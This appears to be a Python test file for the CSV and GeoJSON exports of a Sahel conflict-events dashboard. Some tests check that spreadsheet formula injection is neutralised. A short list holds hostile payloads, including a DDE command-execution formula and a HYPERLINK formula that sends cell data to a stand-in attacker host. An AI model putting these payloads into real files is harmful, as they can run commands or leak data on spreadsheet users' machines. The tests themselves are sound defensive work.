"""Downloads hold exactly what is shown, and no spreadsheet runs them."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dashboard.analysis.filter import EventFilter
from dashboard.writing.catalogue import catalogue
from dashboard.writing.export import COLUMNS, export_table, to_csv, to_geojson

ENGLISH, FRENCH = catalogue("en"), catalogue("fr")
LICENCE = (
    "Sahel insurgency record, CC BY 4.0 https://creativecommons.org/licenses/by/4.0/"
)


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.fixture
def rows(atlas):
    """Return the rows of the CSV of all events, in English, by event."""
    return rows_of(to_csv(export_table(atlas.events, atlas, ENGLISH)))


def test_a_row_in_full(rows, ids):
    assert rows[0] == {
        "event_id": ids["west"],
        "date_start": "2024-01-10",
        "date_end": "2024-01-10",
        "date_precision": "day",
        "country": "ML",
        "region_9": "ML-5",
        "region_10": "ML-5",
        "region_20": "ml23-mopti",
        "located_by": "place",
        "place": "West",
        "site": "",
        "latitude": "0.5",
        "longitude": "0.5",
        "location_precision": "town",
        "event_type": "attack",
        "tactics": "small_arms;raid",
        "target_type": "military",
        "target": "target of west",
        "perpetrators": "katiba",
        "certainty": "claimed",
        "operation_id": "",
        "deaths_low": "10",
        "deaths_best": "13",
        "deaths_high": "14",
        "deaths_scope": "victims",
        "toll_shared_by_operation": "False",
        "summary": "What happened in west.",
        "sources": "Army, Communiqué 7 | Paper, The year <https://paper.example/year>",
        "licence": LICENCE,
        "data_cut_off": "2025-06-30",
    }


def test_the_languages_of_a_row(atlas):
    row = rows_of(to_csv(export_table(atlas.events, atlas, FRENCH)))[3]
    assert [row[name] for name in ("place", "site", "target", "event_type")] == [
        "Milieu",
        "la porte nord",
        "cible de mine",
        "explosion",
    ]


def test_missing_is_blank_and_zero_is_zero(rows):
    deaths = [
        (row["deaths_low"], row["deaths_best"], row["deaths_high"]) for row in rows
    ]
    assert deaths == [
        ("10", "13", "14"),
        ("", "", ""),
        ("20", "25", "30"),
        ("20", "25", "30"),
        ("3", "3", "3"),
        ("0", "0", "0"),
    ]


def test_a_shared_toll_says_so(rows):
    assert [row["toll_shared_by_operation"] for row in rows] == [
        "False", "False", "True", "True", "False", "False",
    ]  # fmt: skip


def test_an_event_at_its_regions_label_has_no_point(rows):
    assert [(row["latitude"], row["longitude"]) for row in rows] == [
        ("0.5", "0.5"),
        ("0.25", "1.5"),
        ("0.5", "2.5"),
        ("0.75", "1.5"),
        ("", ""),
        ("", ""),
    ]


def test_every_row_names_sources_licence_and_cut_off(rows):
    for row in rows:
        assert "Paper, The year <https://paper.example/year>" in row["sources"]
        assert row["licence"] == LICENCE
        assert row["data_cut_off"] == "2025-06-30"


@pytest.mark.parametrize(
    "asked",
    [
        EventFilter(),
        EventFilter(group_ids=frozenset({"jnim"}), start=date(2024, 2, 1)),
        EventFilter(text="nobody"),
    ],
    ids=["all", "some", "none"],
)
def test_exactly_the_events_shown(atlas, asked):
    shown = asked.apply(atlas)
    table = export_table(shown, atlas, ENGLISH)
    assert [row["event_id"] for row in rows_of(to_csv(table))] == list(
        shown["event_id"]
    )
    features = json.loads(to_geojson(table))["features"]
    assert [it["properties"]["event_id"] for it in features] == list(shown["event_id"])


def test_excel_knows_the_encoding(atlas):
    content = to_csv(export_table(atlas.events, atlas, FRENCH))
    assert content.startswith(b"\xef\xbb\xbfevent_id,")
    assert content.count(b"\xef\xbb\xbf") == 1
    assert content.endswith(b"\r\n")


def test_the_columns_of_an_export():
    table_columns = {"deaths_low", "deaths_best", "deaths_high", "sources", "licence"}
    assert table_columns <= set(COLUMNS)
    assert not {"haystack", "ethnicity"} & set(COLUMNS)


# A cell that a spreadsheet would run, and what we write instead.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text):
    content = to_csv(pd.DataFrame({"text": [text]})).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(content, newline=""))
    assert row["text"] == "'" + text


def test_formulas_of_the_record_become_texts(make_atlas, world):
    world["events"][0] |= {"summary_en": "=1+1", "target_en": "@x", "site_en": "-x"}
    world["places"][0]["name_en"] = "+x"
    world["sources"][0]["publisher"] = "=cmd()"
    joined = make_atlas(world)
    row = rows_of(to_csv(export_table(joined.events, joined, ENGLISH)))[0]
    assert {name: row[name] for name in ("summary", "target", "site", "place")} == {
        "summary": "'=1+1",
        "target": "'@x",
        "site": "'-x",
        "place": "'+x",
    }
    assert row["sources"].startswith("'=cmd(), Communiqué 7")


@pytest.mark.parametrize(
    ("value", "text"),
    [(-3, "-3"), (-1.5, "-1.5"), (0, "0"), (pd.NA, ""), (None, ""), (True, "True")],
)
def test_numbers_stay_numbers(value, text):
    table = pd.DataFrame({"value": pd.Series([value], dtype=object), "other": ["x"]})
    (row,) = rows_of(to_csv(table))
    assert row["value"] == text


def test_a_longitude_in_the_west_stays_a_number(make_atlas, world):
    world["events"][0] |= {"latitude": "16.77", "longitude": "-3.01"}
    joined = make_atlas(world)
    row = rows_of(to_csv(export_table(joined.events, joined, ENGLISH)))[0]
    assert row["longitude"] == "-3.01"


@settings(max_examples=100, deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=20))
def test_any_text_comes_back_whole_and_inert(text):
    content = to_csv(pd.DataFrame({"text": [text], "other": ["x"]}))
    assert b"\x00" in content or rows_of(content)[0]["text"].removeprefix(
        "'"
    ) == text.removeprefix("'")
    cells = rows_of(content.replace(b"\x00", b" "))
    assert not cells[0]["text"].lstrip().startswith(("=", "+", "-", "@"))


def test_text_is_cut_nowhere(make_atlas, world):
    long = "word " * 4000 + "end"
    world["events"][0]["summary_en"] = long
    joined = make_atlas(world)
    table = export_table(joined.events, joined, ENGLISH)
    assert rows_of(to_csv(table))[0]["summary"] == long
    first = json.loads(to_geojson(table))["features"][0]
    assert first["properties"]["summary"] == long


def test_geojson(atlas, names):
    collection = json.loads(to_geojson(export_table(atlas.events, atlas, ENGLISH)))
    assert collection["type"] == "FeatureCollection"
    assert collection["licence"] == LICENCE
    features = collection["features"]
    points = {
        name: feature["geometry"]
        for name, feature in zip(
            names([it["properties"]["event_id"] for it in features]),
            features,
            strict=True,
        )
    }
    assert points == {
        "west": {"type": "Point", "coordinates": [0.5, 0.5]},
        "middle": {"type": "Point", "coordinates": [1.5, 0.25]},
        "east": {"type": "Point", "coordinates": [2.5, 0.5]},
        "mine": {"type": "Point", "coordinates": [1.5, 0.75]},
        # Known to the region, and to the country: no point at all.
        "gao": None,
        "mali": None,
    }
    properties = features[1]["properties"]
    assert properties["deaths_best"] is None
    assert properties["date_start"] == "2024-03-01"
    assert properties["data_cut_off"] == "2025-06-30"
    assert properties["sources"] == "Paper, The year <https://paper.example/year>"
    assert not {"latitude", "longitude"} & properties.keys()


def test_a_region_with_a_point_of_its_own_is_no_point(make_atlas, world):
    """The gazetteer may hold the middle of a region: still no place of an event."""
    world["places"][3] |= {"latitude": "0.5", "longitude": "2.5"}
    joined = make_atlas(world)
    table = export_table(joined.events, joined, ENGLISH)
    feature = json.loads(to_geojson(table))["features"][4]
    assert feature["geometry"] is None


def test_geojson_keeps_letters(atlas):
    content = to_geojson(export_table(atlas.events, atlas, FRENCH))
    assert "Ce qui s’est passé".encode() in content


def test_the_table_is_not_changed(atlas):
    table = export_table(atlas.events, atlas, ENGLISH)
    before = table.copy(deep=True)
    to_csv(table)
    to_geojson(table)
    pd.testing.assert_frame_equal(table, before)


def test_the_real_record_is_exported_whole(real_atlas):
    table = export_table(real_atlas.events, real_atlas, FRENCH)
    rows = rows_of(to_csv(table))
    assert len(rows) == len(real_atlas.events)
    assert all(row["sources"] and row["summary"] for row in rows)
    features = json.loads(to_geojson(table))["features"]
    vague = [
        it
        for it in features
        if it["properties"]["location_precision"] in ("region", "country")
    ]
    assert vague
    assert all(it["geometry"] is None for it in vague)
